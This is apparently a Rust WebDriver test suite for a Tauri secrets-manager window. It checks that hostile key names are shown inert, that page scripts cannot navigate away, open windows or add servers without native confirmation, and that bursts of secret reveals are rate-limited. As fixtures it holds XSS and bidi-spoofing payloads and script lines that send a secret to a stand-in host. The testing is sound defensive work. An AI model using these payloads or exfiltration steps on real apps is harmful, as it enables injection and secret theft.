//! The window against hostile data and a hostile page script (tauri-driver + WebKitWebDriver
//! under Xvfb, a real gnome-keyring): names from a server are shown inert, the page cannot
//! leave the app, open windows or connect a server without the user's native confirmation,
//! and a burst of reveals is refused.

mod support;

use std::time::Duration;

use keydeck_core::remote::DialectId;
use keydeck_testkit::http::{hostile_keys, HttpServer};
use serde_json::{json, Value};
use support::{cli, App, NEW_SERVER_TITLE, NEW_TOKEN_TITLE};
use thirtyfour::components::SelectElement;
use thirtyfour::prelude::*;

const TOKEN: &str = "hostile-window-token-0001";

/// Every character of the page's text and attributes that a browser would act on or that
/// reorders text (C0/C1 controls but the layout's newlines and tabs, DEL, bidi controls),
/// as code points.
const RAW_CONTROLS_JS: &str = r#"
    const bad = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
    const found = [];
    const text = document.body.innerText;
    if (bad.test(text)) found.push('text: ' + JSON.stringify(text.match(bad)[0]));
    for (const el of document.querySelectorAll('*')) {
        for (const attr of el.attributes) {
            if (attr.name !== 'data-key-name' && bad.test(attr.value)) found.push(attr.name + '=' + JSON.stringify(attr.value));
        }
    }
    return found;
"#;

/// Starts a command through the page's own IPC bridge (as a script in the page would) and
/// answers `{ok}` or `{err}` when it is done.
fn invoke_later(app: &App, command: &str, args: Value) -> tokio::task::JoinHandle<Value> {
    let driver = app.driver.clone();
    let command = command.to_string();
    tokio::spawn(async move {
        driver
            .execute_async(
                "const [command, args, done] = arguments; window.__TAURI_INTERNALS__.invoke(command, args).then(v => done({ ok: v }), e => done({ err: e }));",
                vec![Value::from(command), args],
            )
            .await
            .unwrap()
            .json()
            .clone()
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_key_names_from_a_server_are_shown_inert() {
    let server = HttpServer::dialect(DialectId::D002, hostile_keys(), TOKEN);
    let home = tempfile::tempdir().unwrap();
    let app = App::start(home.path()).await;
    app.click("+ Connect a server").await;
    app.fill("Name", "evil").await;
    app.fill("URL", &server.url).await;
    SelectElement::new(
        &app.find(By::XPath(
            "//label[starts-with(normalize-space(), 'Dialect')]/select",
        ))
        .await,
    )
    .await
    .unwrap()
    .select_by_value("002")
    .await
    .unwrap();
    app.fill("Token", TOKEN).await;
    app.click("Connect").await;
    app.answer_native_dialog(NEW_SERVER_TITLE, true);
    app.wait_js("return document.querySelectorAll('[role=row][data-key-name]').length === 10")
        .await;

    let raw = app.js(RAW_CONTROLS_JS).await;
    assert_eq!(raw, json!([]), "raw control or bidi characters in the page");
    let text = app
        .js("return document.querySelector('[role=grid]').innerText")
        .await;
    let text = text.as_str().unwrap();
    for shown in [
        "\\x1b[31mRED ALERT\\x1b[0m \\x1b]0;pwned\\x07",
        "invoice<U+202E>gnp.exe",
        "line1\\nline2",
        "<img src=x onerror=alert(1)><script>alert(2)</script>",
    ] {
        assert!(text.contains(shown), "{shown:?} is not shown in:\n{text}");
    }
    assert_eq!(
        app.js("return document.querySelectorAll('img, script:not([src])').length")
            .await,
        0,
        "markup from a name became elements"
    );
    // Each row stays one row: a name cannot push its neighbours around.
    let heights = app
        .js("return [...document.querySelectorAll('[role=row][data-key-name]')].map(r => r.getBoundingClientRect().height)")
        .await;
    assert!(
        heights
            .as_array()
            .unwrap()
            .iter()
            .all(|h| h.as_f64().unwrap() <= 40.0),
        "{heights}"
    );
    app.find(By::Css("[data-key-name='invoice\u{202E}gnp.exe']"))
        .await
        .click()
        .await
        .unwrap();
    app.find(By::Css("[role=grid]"))
        .await
        .send_keys(Key::Enter)
        .await
        .unwrap();
    let aside = app
        .find(By::Css(
            "aside[aria-label='Details of invoice<U+202E>gnp.exe']",
        ))
        .await;
    assert!(aside.is_displayed().await.unwrap());
    assert_eq!(app.js(RAW_CONTROLS_JS).await, json!([]));
    let marker = app
        .find(By::XPath(
            "//aside//h2//span[@class='ctl' or contains(@class,'ctl')]",
        ))
        .await;
    assert_eq!(marker.text().await.unwrap(), "<U+202E>");
    assert_eq!(
        marker.attr("title").await.unwrap().as_deref(),
        Some("U+202E RIGHT-TO-LEFT OVERRIDE")
    );
    app.screenshot("hostile-names").await;
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_script_cannot_leave_open_windows_or_connect_a_server_alone() {
    let home = tempfile::tempdir().unwrap();
    cli(
        home.path(),
        &["add", "stripe-live"],
        "sk_live_contained_0123456789",
    );
    let app = App::start(home.path()).await;
    app.wait_rows(&["stripe-live"]).await;
    let start = app.js("return location.href").await;

    // Navigation away, with a secret in the query: refused, the page stays and works.
    app.js("location.href = 'https://example.com/?leak=sk_live'; return true")
        .await;
    app.js("location.replace('http://127.0.0.1:9/?leak=1'); return true")
        .await;
    app.js("const a = document.createElement('a'); a.href = 'https://example.com/'; document.body.append(a); a.click(); return true").await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(app.js("return location.href").await, start);
    app.wait_rows(&["stripe-live"]).await;

    // New windows: none opens.
    let opened = app
        .js("return window.open('https://example.com/') === null")
        .await;
    assert_eq!(opened, Value::Bool(true), "window.open returned a window");
    app.js("const a = document.createElement('a'); a.href = 'https://example.com/'; a.target = '_blank'; document.body.append(a); a.click(); return true").await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(app.driver.windows().await.unwrap().len(), 1);

    // The window's process keeps no core dump of the secrets it holds.
    let pids = support::app_pids(home.path());
    assert_eq!(pids.len(), 1, "{pids:?}");
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", pids[0])).unwrap();
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .unwrap();
    assert!(
        core.split_whitespace().skip(4).take(2).all(|v| v == "0"),
        "{core}"
    );

    // The page's prototypes cannot be poisoned.
    assert_eq!(
        app.js("return Object.isFrozen(Object.prototype)").await,
        Value::Bool(true)
    );

    // A script adds a source: keydeck asks natively; declined, nothing is added.
    let server = HttpServer::dialect(DialectId::D002, Vec::new(), TOKEN);
    let source = json!({ "source": { "name": "exfil", "url": server.url, "dialect": "002",
        "auth_header": null, "auth_scheme": null, "user_id": null, "revoke_template": null,
        "allow_insecure": false, "token": TOKEN } });
    let pending = invoke_later(&app, "add_source", source.clone());
    app.answer_native_dialog(NEW_SERVER_TITLE, false);
    let refused = pending.await.unwrap();
    assert_eq!(refused["err"]["code"], "cancelled", "{refused}");
    assert_eq!(
        app.invoke("list_sources", json!({})).await.unwrap(),
        json!([])
    );

    // The page cannot answer the dialog itself: while it shows, the command waits.
    let pending = invoke_later(&app, "add_source", source);
    support::wait_until("the dialog shows", Duration::from_secs(20), || {
        app.native_dialog_shows(NEW_SERVER_TITLE)
    });
    tokio::time::sleep(Duration::from_secs(1)).await;
    if pending.is_finished() {
        panic!("add_source went on without the user: {:?}", pending.await);
    }
    app.answer_native_dialog(NEW_SERVER_TITLE, true);
    let added = pending.await.unwrap();
    assert_eq!(added["ok"]["name"], "exfil", "{added}");

    // A new token for it needs the user too, and so does sending its token to another server.
    let settings = |url: &str| {
        json!({ "name": "exfil", "url": url, "dialect": "002", "auth_header": null,
            "auth_scheme": null, "user_id": null, "revoke_template": null, "allow_insecure": false })
    };
    let new_token = json!({ "name": "exfil", "settings": settings(&server.url),
        "token": "sk_live_contained_0123456789" });
    let pending = invoke_later(&app, "edit_source", new_token);
    app.answer_native_dialog(NEW_TOKEN_TITLE, false);
    assert_eq!(pending.await.unwrap()["err"]["code"], "cancelled");
    let elsewhere = HttpServer::dialect(DialectId::D002, Vec::new(), TOKEN);
    let moved = json!({ "name": "exfil", "settings": settings(&elsewhere.url), "token": null });
    let pending = invoke_later(&app, "edit_source", moved);
    app.answer_native_dialog(NEW_SERVER_TITLE, false);
    assert_eq!(pending.await.unwrap()["err"]["code"], "cancelled");
    let sources = app.invoke("list_sources", json!({})).await.unwrap();
    assert_eq!(sources[0]["url"], format!("{}/", server.url), "{sources}");
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn reveals_are_written_to_the_history_and_a_burst_is_refused() {
    let home = tempfile::tempdir().unwrap();
    cli(
        home.path(),
        &["add", "stripe-live"],
        "sk_live_history_0123456789",
    );
    cli(home.path(), &["reveal", "stripe-live"], "");
    let app = App::start(home.path()).await;
    app.wait_rows(&["stripe-live"]).await;
    let id = app.rows().await;
    assert_eq!(id.len(), 1);
    let key = json!({ "key": { "source": "local", "id": "stripe-live" } });
    let mut refused = None;
    for n in 1..=12 {
        match app.invoke("reveal_secret", key.clone()).await {
            Ok(secret) => assert_eq!(secret, "sk_live_history_0123456789"),
            Err(err) => {
                refused = Some((n, err));
                break;
            }
        }
    }
    let (n, err) = refused.expect("a burst of reveals is refused");
    assert_eq!(n, 11, "ten reveals a minute are allowed");
    assert_eq!(err["code"], "rate_limited", "{err}");
    assert!(
        err["message"].as_str().unwrap().contains("try again in"),
        "{err}"
    );
    app.open_detail("stripe-live").await;
    let history = app
        .find(By::Css("aside .history"))
        .await
        .text()
        .await
        .unwrap();
    assert!(history.contains("revealed (from the CLI)"), "{history}");
    assert_eq!(
        history.matches("revealed (from the window)").count(),
        10,
        "{history}"
    );
    app.stop().await;
}
